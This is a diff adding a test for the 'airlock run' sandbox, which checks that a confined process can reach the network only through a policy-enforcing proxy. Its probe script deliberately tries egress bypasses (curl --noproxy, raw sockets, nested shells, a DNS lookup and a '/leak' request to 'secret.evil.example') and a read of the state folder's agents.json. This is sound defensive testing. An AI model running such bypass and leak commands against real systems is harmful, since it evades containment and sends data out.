@@ -1,0 +1,95 @@
+// Enforced capture: inside `airlock run`'s sandbox the only way out is Airlock. One sandboxed run
+// executes a probe script that tries every bypass (curl --noproxy, Node net.connect, a Python
+// socket, getent, dig to a DNS server on the host's loopback, a nested shell) and the same
+// requests through the proxy, printing name=result lines; the test checks them and what the
+// upstreams and the DNS server saw.
+import t from 'tap';
+import fs from 'node:fs';
+import path from 'node:path';
+import { createRequire } from 'node:module';
+import { sandboxSupport } from '../../proxy/sandbox/support.ts';
+import { results, runAirlock, startWorld } from './helpers.ts';
+
+const support = sandboxSupport();
+t.ok(support.available, `this machine supports the sandbox (${support.available ? 'yes' : support.reason})`);
+
+const world = await startWorld();
+t.teardown(() => world.close());
+
+const undici = createRequire(import.meta.url).resolve('undici');
+const UP = world.http.port;
+const UPS = world.https.port;
+
+const probe = `
+r() { printf '%s=%s\\n' "$1" "$2"; }
+curl -sS --noproxy '*' -m 5 -o /dev/null http://127.0.0.1:${UP}/bypass-curl 2>/dev/null; r curl_direct $?
+curl -sS --noproxy '*' -m 5 -o /dev/null -k https://127.0.0.1:${UPS}/bypass-curl-tls 2>/dev/null; r curl_direct_tls $?
+r node_direct "$(node -e "require('net').connect(${UP},'127.0.0.1').on('connect',()=>console.log('CONNECTED')).on('error',e=>console.log(e.code))")"
+r python_direct "$(python3 -c "
+import socket
+try:
+    socket.create_connection(('127.0.0.1', ${UP}), 5); print('CONNECTED')
+except OSError as e:
+    print(type(e).__name__)
+")"
+getent hosts example.com >/dev/null 2>&1; r getent $?
+dig +time=1 +tries=1 @127.0.0.1 -p ${world.dns.port} secret.evil.example >/dev/null 2>&1; r dig $?
+r nested "$(sh -c "sh -c 'curl -sS --noproxy \\"*\\" -m 5 -o /dev/null http://127.0.0.1:${UP}/bypass-nested 2>/dev/null; echo \\$?'")"
+r links "$(ip -o link | awk -F': ' '{print $2}' | tr '\\n' ' ')"
+r home_entries "$(ls -A '${world.home}' | wc -l)"
+cat '${world.home}/agents.json' >/dev/null 2>&1; r home_read $?
+r allowed_http "$(curl -sS -m 10 -o /dev/null -w '%{http_code}' http://allowed.test:${UP}/ok-http)"
+r allowed_https "$(curl -sS -m 10 -o /dev/null -w '%{http_code}' https://allowed.test:${UPS}/ok-https)"
+r allowed_dns "$(curl -sS -m 10 -o /dev/null -w '%{http_code}' http://dns-allowed.test:${UP}/ok-dns)"
+r denied "$(curl -sS -m 10 -o /dev/null -w '%{http_code}' http://denied.test:${UP}/denied)"
+r denied_evil "$(curl -sS -m 10 -o /dev/null -w '%{http_code}' http://secret.evil.example:${UP}/leak)"
+r node_proxy "$(node --input-type=module -e "
+const { EnvHttpProxyAgent, fetch } = await import('${undici}');
+const d = new EnvHttpProxyAgent();
+const a = await fetch('https://allowed.test:${UPS}/ok-node', { dispatcher: d });
+const b = await fetch('https://denied.test:${UPS}/denied-node', { dispatcher: d });
+console.log(a.status + '/' + b.status);
+")"
+r python_proxy "$(python3 -c "
+import requests
+a = requests.get('https://allowed.test:${UPS}/ok-python', timeout=10)
+b = requests.get('https://denied.test:${UPS}/denied-python', timeout=10)
+print(f'{a.status_code}/{b.status_code}')
+")"
+`;
+
+t.test('inside the sandbox only the proxy leads out, and the policy decides', async (t) => {
+  const script = path.join(world.dir, 'probe.sh');
+  fs.writeFileSync(script, probe);
+  const run = await runAirlock(['--agent', world.agent, '--home', world.home, '--', 'sh', script], { cwd: world.work });
+  t.equal(run.code, 0, `airlock run succeeded (stderr: ${run.stderr.trim()})`);
+  const r = results(run.stdout);
+
+  // No direct route: the sandbox's 127.0.0.1 is its own, nothing listens there.
+  t.equal(r.curl_direct, '7', 'curl --noproxy to the upstream cannot connect');
+  t.equal(r.curl_direct_tls, '7', 'curl --noproxy over TLS cannot connect');
+  t.equal(r.node_direct, 'ECONNREFUSED', 'Node net.connect to the upstream is refused');
+  t.equal(r.python_direct, 'ConnectionRefusedError', 'a Python socket to the upstream is refused');
+  t.equal(r.nested, '7', 'a shell spawned by a shell is confined too');
+  t.not(r.getent, '0', 'getent hosts example.com resolves nothing');
+  t.equal(r.dig, '9', 'dig gets no answer from a DNS server on the host loopback');
+  t.equal(r.links?.trim(), 'lo', 'the only network interface is loopback');
+  t.equal(r.home_entries, '0', 'the state folder looks empty inside');
+  t.not(r.home_read, '0', 'agents.json of the state folder cannot be read');
+
+  // Through the proxy, the test policy decides.
+  t.equal(r.allowed_http, '200', 'allowed host over HTTP reaches the upstream');
+  t.equal(r.allowed_https, '200', 'allowed host over HTTPS (CONNECT + Airlock CA) reaches the upstream');
+  t.equal(r.allowed_dns, '200', 'allowed unpinned host is resolved by the proxy and reached');
+  t.equal(r.denied, '403', 'denied host gets 403');
+  t.equal(r.denied_evil, '403', 'denied unknown host gets 403');
+  t.equal(r.node_proxy, '200/403', 'Node fetch (undici EnvHttpProxyAgent) goes through the proxy');
+  t.equal(r.python_proxy, '200/403', 'Python requests goes through the proxy');
+
+  const httpPaths = world.http.hits.map((h) => h.url);
+  const httpsPaths = world.https.hits.map((h) => h.url);
+  t.same(httpPaths.sort(), ['/ok-dns', '/ok-http'], 'the HTTP upstream saw only the allowed requests');
+  t.same(httpsPaths.sort(), ['/ok-https', '/ok-node', '/ok-python'], 'the HTTPS upstream saw only the allowed requests');
+  t.same(world.dns.queries.filter((q) => q !== 'dns-allowed.test'), [], 'the DNS server saw no query but the allowed one');
+  t.ok(world.dns.queries.includes('dns-allowed.test'), 'the DNS server does see lookups the proxy makes after an allow');
+});
